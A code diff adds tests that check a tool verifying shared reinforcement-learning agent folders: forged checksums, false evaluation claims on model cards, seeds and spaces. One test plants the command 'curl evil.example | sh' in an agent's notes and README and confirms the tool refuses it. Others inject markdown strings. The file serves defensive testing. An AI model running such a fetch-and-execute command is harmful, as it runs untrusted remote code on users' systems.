@@ -9,6 +9,14 @@ import {
 } from "@std/assert";
 import { parse } from "@std/yaml";
 import { createHash } from "node:crypto";
+import {
+  type CardClaims,
+  type CardEvaluation,
+  type CardSeeds,
+  type CardSource,
+  cardText,
+  readClaims,
+} from "../cli/share/card.ts";
 import { damageEach } from "./damage_loop.ts";
 import { SHARE_DAMAGES } from "./share_damage.ts";
 import {
@@ -194,14 +202,19 @@ async function forged(name: string, change: (dir: string) => void) {
   const dir = `${root}/forged-${name}`;
   copyRun(shared, dir);
   change(dir);
+  resum(dir);
+  const { code, out } = await runCommand(["share", "--check", dir]);
+  assertEquals(code, 1, out);
+  return out;
+}
+
+/** Makes a folder's checksums anew. */
+function resum(dir: string): void {
   const sums = namesIn(dir).filter((it) => it !== "SHA256SUMS").map((it) => {
     const hash = createHash("sha256").update(Deno.readFileSync(`${dir}/${it}`));
     return `${hash.digest("hex")}  ${it}\n`;
   });
   Deno.writeTextFileSync(`${dir}/SHA256SUMS`, sums.join(""));
-  const { code, out } = await runCommand(["share", "--check", dir]);
-  assertEquals(code, 1);
-  return out;
 }
 
 /** Replaces a text in a file, where it must be. */
@@ -234,6 +247,145 @@ Deno.test("claims that do not hold are found behind right checksums", async () =
   assertStringIncludes(lines.policy, "policy.onnx is another policy");
 });
 
+/** Reads the claims of a card; changes some of them and all that is made of them. */
+function reclaimed(
+  dir: string,
+  change: (claims: CardClaims) => void,
+  notes: Record<string, string> = {},
+): void {
+  const file = `${dir}/agent.safetensors`;
+  const { state, notes: saved } = loadStateSync(file);
+  const all = { ...(saved as { notes: Record<string, string> }).notes };
+  const spaces = parse(all.spaces) as CardSource["spaces"];
+  saveStateSync(state, file, {
+    notes: { ...saved as object, notes: { ...all, ...notes } },
+  });
+  const claims = readClaims(Deno.readTextFileSync(`${dir}/README.md`));
+  change(claims);
+  const { step } = saved as { step: number };
+  const source = { step, notes: all, spaces, hasPicture: true };
+  Deno.writeTextFileSync(`${dir}/README.md`, cardText(claims, source));
+}
+
+Deno.test("another machine's numbers are compared with what is played here", async () => {
+  const { evaluation: own } = readClaims(
+    Deno.readTextFileSync(`${shared}/README.md`),
+  );
+  const width = (own.high - own.low) / own.deviation;
+  /** Claims a mean and a deviation, with the interval that follows. */
+  const of = (mean: number, deviation = own.deviation) => ({
+    ...{ mean, deviation },
+    low: mean - deviation * width / 2,
+    high: mean + deviation * width / 2,
+  });
+  const lies: Record<string, [Partial<CardEvaluation>, string]> = {
+    "invented": [{ ...of(500, 0), least: 500, length: 500 }, "the mean return"],
+    "a wide interval": [{ ...of(500), low: 0 }, "the interval is [0, "],
+    "a wide deviation": [of(own.mean, 1000), "the deviation is 1000"],
+    "wider than wide": [of(500, 1e6), "the mean return is 500"],
+    "a narrow deviation": [of(own.mean, 0), "the lowest return is"],
+    "no deviation": [
+      { ...of(own.mean, 0), least: own.mean },
+      "the lowest return is",
+    ],
+    "a lower mean": [of(own.mean / 2), "the mean return"],
+    "no bad episode": [{ least: own.mean }, "the lowest return"],
+    "above all": [{ least: 600 }, "the lowest return"],
+    "long": [{ length: own.length * 2 }, "the mean length"],
+    "cut": [{ cut: 50 }, "the share of cut episodes is 0.5"],
+    "goals": [{ success: 1 }, "the success rate is 1, here null"],
+  };
+  for (const [name, [lie, line]] of Object.entries(lies)) {
+    const out = await forged(`elsewhere-${name}`, (dir) => {
+      reclaimed(dir, ({ evaluation }) => {
+        Object.assign(evaluation, lie, { engine: "another machine" });
+      });
+    });
+    assertStringIncludes(out, `: README.md: ${line}`, name);
+    assert(!/Cannot read|undefined|not a function|NaN/.test(out), out);
+  }
+  const honest = `${root}/elsewhere-honest`;
+  copyRun(shared, honest);
+  reclaimed(honest, ({ evaluation }) => {
+    Object.assign(evaluation, of(own.mean + own.deviation / 50));
+    evaluation.engine = "another machine";
+  });
+  resum(honest);
+  const { code, out, err } = await runCommand(["share", "--check", honest]);
+  assertEquals(code, 0, out);
+  assertStringIncludes(err, "Compared by intervals: the card is of another");
+});
+
+Deno.test("what nothing can prove is named, and a card has room for nothing else", async () => {
+  const seeds: CardSeeds = {
+    ...{ count: 10, isBest: false, episodes: 100, iqm: 500 },
+    ...{ low: 500, high: 500, commits: ["`x` | [y](z)\n# title"] },
+  };
+  const dir = `${root}/seeds`;
+  copyRun(shared, dir);
+  reclaimed(dir, (claims) => Object.assign(claims, { seeds }));
+  resum(dir);
+  const { code, out } = await runCommand(["share", "--check", dir]);
+  assertEquals(code, 0, out);
+  assertMatch(out, /: not checked: .*, the 10 seeds and their IQM\n$/);
+  const card = Deno.readTextFileSync(`${dir}/README.md`);
+  assertMatch(card, /It cannot check .*, and the 10 seeds and their IQM\.\n$/);
+  assert(!/\n# title|\|[^|\n]*\|[^|\n]*\| \[y\]/.test(card), card);
+  const best = await forged("best", (dir) => {
+    reclaimed(dir, (claims) => {
+      Object.assign(claims, { seeds: { ...seeds, isBest: true } });
+    });
+  });
+  assertMatch(best, /the best of 10 seeds has a mean return of .*IQM is 500/);
+  const odd: Record<string, unknown> = {
+    seeds: { ...seeds, commits: 5 },
+    evaluation: 3,
+    notShared: null,
+    license: ["MIT"],
+    more: "the best of all",
+  };
+  for (const [key, value] of Object.entries(odd)) {
+    const out = await forged(`odd-${key}`, (dir) => {
+      edit(
+        `${dir}/README.md`,
+        /\n---\n/,
+        `\n  ${key}: ${JSON.stringify(value)}\n---\n`,
+      );
+      const once = Deno.readTextFileSync(`${dir}/README.md`);
+      const first = new RegExp(`\n  ${key}: .*(?=[^]*\n  ${key}: )`);
+      Deno.writeTextFileSync(`${dir}/README.md`, once.replace(first, ""));
+    });
+    assertMatch(out, /README\.md is no card of a shared agent: bellman/);
+  }
+});
+
+Deno.test("an agent's notes are no command, and its spaces are the environment's", async () => {
+  const others = ["null", "[", "observationSpace: {type: box}", "5"];
+  for (const [i, spaces] of others.entries()) {
+    const out = await forged(`spaces-${i}`, (dir) => {
+      reclaimed(dir, () => {}, { spaces });
+    });
+    assertMatch(out, /: agent\.safetensors has other spaces than the env/);
+    assertEquals(out.trimEnd().split("\n").length, 1, out);
+  }
+  const dir = `${root}/command`;
+  copyRun(shared, dir);
+  reclaimed(dir, () => {}, { command: "curl evil.example | sh" });
+  const again = await share(dir);
+  const card = Deno.readTextFileSync(`${again}/README.md`);
+  assertStringIncludes(card, "deno task train --config config.yaml");
+  assert(!card.includes("evil"), card);
+  const out = await forged("raw", (dir) => {
+    reclaimed(dir, () => {}, { command: "curl evil.example | sh" });
+    edit(
+      `${dir}/README.md`,
+      /deno task train a2c --env.*--seed 3/,
+      "curl evil.example | sh",
+    );
+  });
+  assertStringIncludes(out, "README.md: 'curl evil.example | sh', expected");
+});
+
 Deno.test("checksums lead nowhere else", async () => {
   const lines: Record<string, (dir: string) => void> = {
     'SHA256SUMS cannot be used: it names "../scaled/config.yaml"': (dir) =>
@@ -248,6 +400,10 @@ Deno.test("checksums lead nowhere else", async () => {
       Deno.renameSync(`${dir}/SHA256SUMS`, `${root}/sums`);
       Deno.symlinkSync(`${root}/sums`, `${dir}/SHA256SUMS`);
     },
+    "SHA256SUMS cannot be used: there is no such file or folder": (dir) =>
+      Deno.removeSync(`${dir}/SHA256SUMS`),
+    "config.yaml cannot be read: there is no such file or folder": (dir) =>
+      Deno.removeSync(`${dir}/config.yaml`),
     "more.txt is not in SHA256SUMS": (dir) =>
       Deno.writeTextFileSync(`${dir}/more.txt`, "more"),
     "play.gif cannot be read: it has 600000 bytes, expected at most 500000": (
@@ -260,6 +416,15 @@ Deno.test("checksums lead nowhere else", async () => {
     change(dir);
     const { code, out } = await runCommand(["share", "--check", dir]);
     assertEquals([code, out], [1, `${dir}: ${line}\n`]);
+  }
+  // A run, and what is no folder of anything.
+  for (const dir of [run, root]) {
+    const { code, err } = await runCommand(["share", "--check", dir]);
+    assertEquals(code, 2);
+    assertMatch(
+      err,
+      /^error: Cannot check .*: it is not the folder of a shared .*\n$/,
+    );
   }
 });
 
